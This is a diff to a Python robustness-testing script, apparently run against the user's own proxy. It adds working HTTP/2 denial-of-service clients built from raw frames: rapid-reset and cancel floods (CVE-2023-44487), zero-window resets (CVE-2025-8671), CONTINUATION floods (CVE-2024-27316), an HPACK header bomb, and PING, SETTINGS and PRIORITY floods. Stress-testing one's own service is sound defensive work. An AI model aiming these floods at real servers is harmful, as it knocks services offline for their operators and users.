@@ -19,12 +19,22 @@ connections each kind opened. The slow kinds stay, and do little; the floods do 
     flood-pipelined  requests for 1 KiB, 5,000 at a time, answers read
     flood-chunks     uploads in chunks of one byte
     flood-download   asks for /chunks, which a hostile upstream sends in chunks of one byte
+    flood-h2-reset   HTTP/2: requests for 1 KiB that are cancelled at once (CVE-2023-44487)
+    flood-h2-cancel  the same, each after it has begun
+    flood-h2-wrong   requests, and a frame for which the proxy must reset them (CVE-2025-8671)
+    flood-h2-ping    PING without end; flood-h2-settings, flood-h2-priority: likewise
+    flood-h2-blocks  field blocks that never end (CVE-2024-27316)
+    flood-h2-bomb    field blocks of 16 KiB that say 48 MiB
+    flood-h2-streams 100 requests for 1 KiB at once, again and again, answers read
+    flood-h2-unread  the same, and reads nothing
+
     flood-metrics    asks for /metrics again and again (towards the admin port)
 """
 
 import asyncio
 import random
 import socket
+import struct
 import sys
 from collections import Counter
 from collections.abc import AsyncIterator, Awaitable, Callable
@@ -121,6 +131,100 @@ async def flood_metrics(reader: Reader, writer: Writer) -> None:
         pass
 
 
+# --- HTTP/2 -------------------------------------------------------------------------------------
+
+
+def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    size = len(payload)
+    return struct.pack(">BHBBL", size >> 16, size & 0xFFFF, kind, flags, stream) + payload
+
+
+_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0) + _frame(4, 1, 0)
+_BLOCK = b"\x82\x86\x04\x03/1k\x01\x01a\x00\x06x-kind\x07hostile"
+_INSERTED = b"\x40\x01x\x7f\xa1\x1e" + 4000 * b"v"
+_ENDED = 5
+"""END_HEADERS and END_STREAM."""
+
+
+def _request(stream: int) -> bytes:
+    return _frame(1, _ENDED, stream, _BLOCK)
+
+
+def _cancel(stream: int) -> bytes:
+    return _frame(3, 0, stream, b"\0\0\0\x08")
+
+
+async def _until_gone(reader: Reader, writer: Writer, data: bytes) -> None:
+    """Send it once, and read until the proxy ends the connection, for a second at most."""
+    writer.write(_PREFACE + data)
+    await writer.drain()
+    await _ended(reader, 1.0)
+
+
+async def flood_h2_reset(reader: Reader, writer: Writer) -> None:
+    await _until_gone(reader, writer, b"".join(_request(n) + _cancel(n) for n in range(1, 1000, 2)))
+
+
+async def flood_h2_cancel(reader: Reader, writer: Writer) -> None:
+    writer.write(_PREFACE)
+    for stream in range(1, 1000, 2):
+        writer.write(_request(stream))
+        await asyncio.sleep(0.0005)
+        writer.write(_cancel(stream))
+    await _ended(reader, 1.0)
+
+
+async def flood_h2_wrong(reader: Reader, writer: Writer) -> None:
+    wrong = bytes(4)  # an increment of 0
+    parts = [_request(n) + _frame(8, 0, n, wrong) for n in range(1, 1000, 2)]
+    await _until_gone(reader, writer, b"".join(parts))
+
+
+async def flood_h2_ping(reader: Reader, writer: Writer) -> None:
+    await _until_gone(reader, writer, 5_000 * _frame(6, 0, 0, bytes(8)))
+
+
+async def flood_h2_settings(reader: Reader, writer: Writer) -> None:
+    await _until_gone(reader, writer, 5_000 * _frame(4, 0, 0, b"\0\4\0\1\0\0"))
+
+
+async def flood_h2_priority(reader: Reader, writer: Writer) -> None:
+    await _until_gone(reader, writer, 5_000 * _frame(2, 0, 1, bytes(5)))
+
+
+async def flood_h2_blocks(reader: Reader, writer: Writer) -> None:
+    endless = _frame(1, 1, 1, _BLOCK) + 5_000 * _frame(9, 0, 1, b"\x00\x01a\x01b")
+    await _until_gone(reader, writer, endless)
+
+
+async def flood_h2_bomb(reader: Reader, writer: Writer) -> None:
+    block = _BLOCK + _INSERTED + 12_000 * b"\xbe"
+    await _until_gone(reader, writer, _frame(1, _ENDED, 1, block))
+
+
+async def flood_h2_streams(reader: Reader, writer: Writer) -> None:
+    writer.write(_PREFACE)
+    stream = 1
+    while True:
+        writer.write(b"".join(_request(n) for n in range(stream, stream + 200, 2)))
+        stream += 200
+        got = 0
+        while got < 100 * 1024:
+            data = await reader.read(256 * 1024)
+            if not data:
+                return
+            got += len(data)
+        writer.write(_frame(8, 0, 0, struct.pack(">L", got)))
+
+
+async def flood_h2_unread(reader: Reader, writer: Writer) -> None:
+    window = _frame(8, 0, 0, b"\x3f\xff\xff\xff")
+    writer.write(_PREFACE + window)
+    for stream in range(1, 200_000, 2):
+        writer.write(_request(stream))
+        await writer.drain()
+
+
 async def _flood(reader: Reader, writer: Writer, data: bytes) -> None:
     """Send it again and again, and read what comes back."""
 
@@ -153,7 +257,9 @@ MANNERS: dict[str, Manner] = {
     for manner in (
         *(silent, slow_head, slow_body, slow_reader, pipeliner, tiny_chunks),
         *(flood_expired, flood_unread, flood_connect, flood_pipelined, flood_chunks),
-        *(flood_download, flood_metrics),
+        *(flood_download, flood_metrics, flood_h2_reset, flood_h2_cancel, flood_h2_wrong),
+        *(flood_h2_ping, flood_h2_settings, flood_h2_priority, flood_h2_blocks, flood_h2_bomb),
+        *(flood_h2_streams, flood_h2_unread),
     )
 }
 CROWD = ("silent", "slow-head", "slow-body", "slow-reader", "pipeliner", "tiny-chunks")
